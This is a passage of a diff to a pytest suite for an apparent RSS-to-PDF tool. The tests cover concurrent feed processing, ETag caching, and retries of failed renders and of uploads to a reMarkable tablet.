     def test_returns_none_on_weasyprint_failure(self, processor, tmp_path, mocker):
         mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
 
         mock_template = MagicMock()
         mock_template.render.return_value = "<html></html>"
-        processor.template_env = MagicMock()
-        processor.template_env.get_template.return_value = mock_template
+        processor._template = mock_template
 
         mocker.patch("main.HTML", side_effect=Exception("WeasyPrint error"))
 
@@ -296,11 +871,16 @@ class TestProcessFeed:
         assert count == 0
         assert paths == []
 
-    def test_processes_recent_entries(self, processor, mocker):
-        mock_feed = MagicMock()
-        mock_feed.feed.get.return_value = "Test Feed"
-        mock_entry = MagicMock()
-        mock_feed.entries = [mock_entry]
+    def test_not_modified_feed_counts_as_processed(self, processor, mocker):
+        mocker.patch.object(processor, "fetch_feed", return_value=main.NOT_MODIFIED)
+        count, paths = processor.process_feed("https://example.com/feed.xml")
+        assert count == 0
+        assert paths == []
+        assert processor.stats["feeds_processed"] == 1
+        assert processor.stats["feeds_failed"] == 0
+
+    def test_processes_recent_entries(self, processor, mocker, make_entry, make_feed):
+        mock_feed = make_feed(make_entry(title="T"))
 
         mocker.patch.object(processor, "fetch_feed", return_value=mock_feed)
         mocker.patch.object(processor, "is_entry_recent", return_value=(True, datetime.now()))
@@ -313,10 +893,57 @@ class TestProcessFeed:
         assert count == 1
         assert fake_path in paths
 
-    def test_skips_old_entries(self, processor, mocker):
-        mock_feed = MagicMock()
-        mock_feed.feed.get.return_value = "Test Feed"
-        mock_feed.entries = [MagicMock()]
+    def test_skips_existing_pdf_without_rendering(self, processor, tmp_path, mocker, make_entry, make_feed):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        feed_dir = tmp_path / "Test Feed"
+        feed_dir.mkdir()
+        existing = feed_dir / "07-28-2025 Old Post.pdf"
+        existing.touch()
+
+        mock_feed = make_feed(make_entry(title="Old Post"))
+
+        mocker.patch.object(processor, "fetch_feed", return_value=mock_feed)
+        mocker.patch.object(processor, "is_entry_recent", return_value=(True, datetime(2025, 7, 28)))
+        extract = mocker.patch.object(processor, "extract_entry_data")
+        generate = mocker.patch.object(processor, "generate_pdf")
+
+        count, paths = processor.process_feed("https://example.com/feed.xml")
+        assert count == 1
+        assert paths == [existing]
+        assert processor.stats["pdfs_skipped"] == 1
+        extract.assert_not_called()
+        generate.assert_not_called()
+
+    def test_entries_are_reduced_to_used_fields(self, processor, mocker, make_feed):
+        entry = FeedParserDict(
+            title="Post",
+            summary="<p>Body</p>",
+            published_parsed=datetime(2025, 7, 28).timetuple(),
+            tags=[FeedParserDict(term="unused")],
+        )
+        mock_feed = make_feed(entry)
+
+        mocker.patch.object(processor, "fetch_feed", return_value=mock_feed)
+        is_recent = mocker.patch.object(processor, "is_entry_recent", return_value=(False, None))
+
+        processor.process_feed("https://example.com/feed.xml")
+        slim = is_recent.call_args.args[0]
+        assert slim["title"] == "Post"
+        assert slim.summary == "<p>Body</p>"
+        assert "tags" not in slim
+
+    def test_uses_run_cutoff_for_every_entry(self, processor, mocker, make_entry, make_feed):
+        mock_feed = make_feed(make_entry(title="A"), make_entry(title="B"))
+
+        mocker.patch.object(processor, "fetch_feed", return_value=mock_feed)
+        is_recent = mocker.patch.object(processor, "is_entry_recent", return_value=(False, None))
+
+        processor.process_feed("https://example.com/feed.xml")
+        cutoffs = {call.args[1] for call in is_recent.call_args_list}
+        assert cutoffs == {processor._cutoff}
+
+    def test_skips_old_entries(self, processor, mocker, make_entry, make_feed):
+        mock_feed = make_feed(make_entry(title="Old"))
 
         mocker.patch.object(processor, "fetch_feed", return_value=mock_feed)
         mocker.patch.object(processor, "is_entry_recent", return_value=(False, None))
@@ -327,6 +954,26 @@ class TestProcessFeed:
 
 
 class TestProcessAllFeeds:
+    @staticmethod
+    def _drain_uploads(uploaded, failing=()):
+        """Fake upload_stream that records queued paths until the sentinel."""
+        def upload_stream(pdf_queue, on_result=None):
+            while (pdf_path := pdf_queue.get()) is not None:
+                uploaded.append(pdf_path)
+                if on_result:
+                    on_result(pdf_path, pdf_path not in failing)
+            return {"uploaded": len(uploaded), "skipped": 0, "failed": 0}
+        return upload_stream
+
+    @staticmethod
+    def _feed_producing(processor, paths_for):
+        """Fake process_feed that queues one PDF per feed like the real one."""
+        def process_feed(url):
+            pdf_path = paths_for(url)
+            processor._queue_upload(pdf_path)
+            return 1, [pdf_path]
+        return process_feed
+
     def test_returns_stats_with_no_feeds(self, processor, mocker):
         mocker.patch.object(processor, "load_feeds", return_value=[])
         stats = processor.process_all_feeds()
@@ -338,10 +985,11 @@ class TestProcessAllFeeds:
             "https://feed2.com/atom.xml",
         ])
         fake_path = Path("/tmp/article.pdf")
-        mocker.patch.object(processor, "process_feed", return_value=(1, [fake_path]))
-        processor.remarkable_uploader.upload_pdfs.return_value = {
-            "uploaded": 2, "skipped": 0, "failed": 0
-        }
+        mocker.patch.object(
+            processor, "process_feed",
+            side_effect=self._feed_producing(processor, lambda url: fake_path)
+        )
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads([])
 
         stats = processor.process_all_feeds()
         assert stats["remarkable_uploaded"] == 2
@@ -352,3 +1000,125 @@ class TestProcessAllFeeds:
 
         stats = processor.process_all_feeds()
         assert stats["feeds_failed"] == 1
+
+    def test_processes_feeds_concurrently_and_uploads_all_paths(self, processor, mocker):
+        mocker.patch.object(Config, "FEED_WORKERS", 5)
+        feeds = [f"https://feed{i}.com/atom.xml" for i in range(5)]
+        mocker.patch.object(processor, "load_feeds", return_value=feeds)
+        produce = self._feed_producing(
+            processor, lambda url: Path(f"/tmp/{url.split('/')[2]}.pdf")
+        )
+        # Each feed waits until two are in flight at once, which only
+        # happens if feeds are processed concurrently
+        in_flight = [0]
+        in_flight_lock = threading.Lock()
+        two_in_flight = threading.Event()
+
+        def process_feed(url):
+            with in_flight_lock:
+                in_flight[0] += 1
+                if in_flight[0] >= 2:
+                    two_in_flight.set()
+            two_in_flight.wait(timeout=1)
+            with in_flight_lock:
+                in_flight[0] -= 1
+            return produce(url)
+        mocker.patch.object(processor, "process_feed", side_effect=process_feed)
+        uploaded = []
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads(uploaded)
+
+        stats = processor.process_all_feeds()
+        assert two_in_flight.is_set()
+        assert len(uploaded) == 5
+        assert stats["remarkable_uploaded"] == 5
+
+    def test_cutoff_is_frozen_for_the_run(self, processor, mocker):
+        mocker.patch.object(processor, "load_feeds", return_value=["https://feed.com/atom.xml"])
+        seen = []
+        mocker.patch.object(
+            processor, "process_feed",
+            side_effect=lambda url: seen.append(Config.get_cutoff_time()) or (0, [])
+        )
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads([])
+
+        processor.process_all_feeds()
+        assert seen == [processor._cutoff]
+        assert Config._frozen_now is None
+
+    FEED_URL = "https://feed.com/atom.xml"
+
+    def _serve_feed(self, processor, mocker, make_entry, make_feed):
+        """Serve one feed with one recent entry; return the session.get mock"""
+        mocker.patch.object(processor, "load_feeds", return_value=[self.FEED_URL])
+        ok = MagicMock(status_code=200, headers={"ETag": '"v1"'})
+        ok.iter_content.return_value = [b"<feed></feed>"]
+        get = mocker.patch.object(processor._session, "get", return_value=ok)
+        mocker.patch("feedparser.parse", return_value=make_feed(make_entry(title="Post")))
+        mocker.patch.object(processor, "is_entry_recent", return_value=(True, datetime(2025, 7, 28)))
+        return get
+
+    def test_saves_validators_when_feed_completes(self, processor, mocker, tmp_path, make_entry, make_feed):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        get = self._serve_feed(processor, mocker, make_entry, make_feed)
+        mocker.patch.object(processor, "generate_pdf", return_value=(tmp_path / "Post.pdf", False))
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads([])
+
+        processor.process_all_feeds()
+        assert processor._http_cache[self.FEED_URL] == ('"v1"', "")
+
+        get.return_value = MagicMock(status_code=304)
+        uploaded = []
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads(uploaded)
+        processor.process_all_feeds()
+        assert get.call_args.kwargs["headers"]["If-None-Match"] == '"v1"'
+        assert uploaded == []
+
+    def test_failed_render_is_retried_next_run(self, processor, mocker, tmp_path, make_entry, make_feed):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        get = self._serve_feed(processor, mocker, make_entry, make_feed)
+        generate = mocker.patch.object(processor, "generate_pdf", return_value=(None, False))
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads([])
+
+        processor.process_all_feeds()
+        processor.process_all_feeds()
+
+        assert self.FEED_URL not in processor._http_cache
+        assert "If-None-Match" not in get.call_args.kwargs["headers"]
+        assert generate.call_count == 2
+
+    def test_failed_upload_is_retried_next_run(self, processor, mocker, tmp_path, make_entry, make_feed):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        get = self._serve_feed(processor, mocker, make_entry, make_feed)
+        pdf_path = tmp_path / "Post.pdf"
+        mocker.patch.object(processor, "generate_pdf", return_value=(pdf_path, False))
+        uploaded = []
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads(
+            uploaded, failing={pdf_path}
+        )
+
+        processor.process_all_feeds()
+        processor.process_all_feeds()
+
+        assert self.FEED_URL not in processor._http_cache
+        assert "If-None-Match" not in get.call_args.kwargs["headers"]
+        assert uploaded == [pdf_path, pdf_path]
+
+    def test_uploader_crash_discards_validators(self, processor, mocker, tmp_path, make_entry, make_feed):
+        mocker.patch("config.Config.OUTPUT_DIR", str(tmp_path))
+        processor._http_cache[self.FEED_URL] = ('"v0"', "")
+        self._serve_feed(processor, mocker, make_entry, make_feed)
+        mocker.patch.object(processor, "generate_pdf", return_value=(tmp_path / "Post.pdf", False))
+        processor.remarkable_uploader.upload_stream.side_effect = RuntimeError("rmapi crashed")
+
+        processor.process_all_feeds()
+
+        assert self.FEED_URL not in processor._http_cache
+        assert processor._pending_validators == {}
+
+    def test_upload_queue_is_closed_after_run(self, processor, mocker):
+        mocker.patch.object(processor, "load_feeds", return_value=["https://feed.com/atom.xml"])
+        mocker.patch.object(processor, "process_feed", return_value=(0, []))
+        processor.remarkable_uploader.upload_stream.side_effect = self._drain_uploads([])
+
+        processor.process_all_feeds()
+        assert processor._upload_queue is None